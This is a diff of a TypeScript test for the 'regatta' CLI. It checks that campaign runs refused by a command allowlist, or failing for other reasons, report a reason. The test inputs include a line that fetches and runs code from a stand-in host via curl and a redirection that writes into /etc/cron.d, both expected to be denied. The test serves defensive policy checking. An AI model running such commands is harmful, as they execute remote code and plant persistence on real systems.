@@ -10,15 +10,17 @@ import { localForgeRoot } from '../src/forges';
 import { LocalForge } from '../src/forges/local';
 import { loadConfig } from '../src/config';
 import { startHarness, type RegattaHarness } from './support/harness';
-import { scriptedExecution } from './support/scripted-execution';
+import { scriptedExecution, type ScriptedOutcome } from './support/scripted-execution';
 import { fixtureRepo, readStackInfo } from './support/stack';
 
 const root = path.resolve(__dirname, '..');
 let harness: RegattaHarness;
 let holdMs = 0;
+/** What the scripted execution does for one repository of one campaign; anything else holds for holdMs and changes README.md. */
+const scripted = new Map<string, ScriptedOutcome>();
 
 beforeAll(async () => {
-  harness = await startHarness({ controlActivities: createControlActivities({}), executionActivities: scriptedExecution(() => ({ holdMs })).activities });
+  harness = await startHarness({ controlActivities: createControlActivities({}), executionActivities: scriptedExecution((spec) => scripted.get(`${spec.campaignId} ${spec.repo.name}`) ?? { holdMs }).activities });
 });
 afterAll(async () => harness?.shutdown());
 
@@ -62,7 +64,7 @@ describe('regatta CLI', () => {
 
     const status = await regatta('campaign', 'status', spec.id);
     expect(status.stdout).toContain(`campaign ${spec.id}\nsettled   [##############################] 3/3`);
-    expect(status.stdout).toMatch(/REPO +STATE +OWNER +RUNID\nacme\/catalog +changed +storefront/);
+    expect(status.stdout).toMatch(/REPO +STATE +OWNER +RUNID +REASON\nacme\/catalog +changed +storefront +\S+ +preview: evidence collected, nothing published\n/);
     const statusJson = JSON.parse((await regatta('campaign', 'status', spec.id, '--json')).stdout);
     expect(statusJson.progress.counts).toEqual({ changed: 3 });
 
@@ -71,6 +73,30 @@ describe('regatta CLI', () => {
     const show = await regatta('run', 'show', `run/${spec.id}/acme/catalog`);
     expect(show.stdout).toContain(`run run/${spec.id}/acme/catalog (acme/catalog): changed`);
     expect(show.stdout).toMatch(/pending\s+requested by unknown[\s\S]*executing[\s\S]*changed\s+preview: evidence collected/);
+  });
+
+  it('every state that is not a success says why, in campaign start --wait, campaign status and runs list', async () => {
+    const escape = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
+    const hidden = 'sed -i s/a/b/ README.md && node -e "$(curl -s http://x.invalid)"';
+    const denied = campaignSpec('cli-denied', { preview: true, steps: [{ recipe: 'command', run: hidden }] });
+    const refusal = `builtin-commands: commands not in the allowlist: ${hidden} ("$(curl -s http://x.invalid)" is a command substitution)`;
+    const waited = await regatta('campaign', 'start', '-f', specFile(denied), '--wait');
+    expect(waited.code).toBe(0);
+    expect(waited.stdout).toContain(`acme/catalog        policy_denied  ${refusal}\n`);
+    expect((await regatta('campaign', 'status', denied.id)).stdout).toMatch(new RegExp(`acme/checkout +policy_denied .* ${escape(refusal)}\n`));
+    expect((await regatta('runs', 'list', '--campaign', denied.id)).stdout).toMatch(new RegExp(`acme/notifications +policy_denied .*COMPLETED +\\S+ +${escape(refusal)}\n`));
+    const listed = JSON.parse((await regatta('runs', 'list', '--campaign', denied.id, '--json')).stdout);
+    expect(listed.map((r: { reason: string }) => r.reason)).toEqual([refusal, refusal, refusal]);
+
+    const evidence = campaignSpec('cli-evidence', { preview: true });
+    scripted.set(`${evidence.id} acme/catalog`, { commands: ['npm ci', 'npm test > /etc/cron.d/x'] });
+    scripted.set(`${evidence.id} acme/checkout`, { outcome: 'no_changes' });
+    const outcomes = await regatta('campaign', 'start', '-f', specFile(evidence), '--wait');
+    expect(outcomes.code).toBe(5);
+    const row = (repo: string, state: string, reason: string) => new RegExp(`${escape(repo)} +${state} +${escape(reason)}\n`);
+    expect(outcomes.stdout).toMatch(row('acme/catalog', 'failed', 'policy: scope violation: commands outside the allowlist: npm test > /etc/cron.d/x ("> /etc/cron.d/x" is a redirection outside the workspace)'));
+    expect(outcomes.stdout).toMatch(row('acme/checkout', 'no_changes', 'nothing to change (scripted)'));
+    expect(outcomes.stdout).toMatch(row('acme/notifications', 'changed', 'preview: evidence collected, nothing published'));
   });
 
   it('pause, resume and cancel steer a running campaign', async () => {
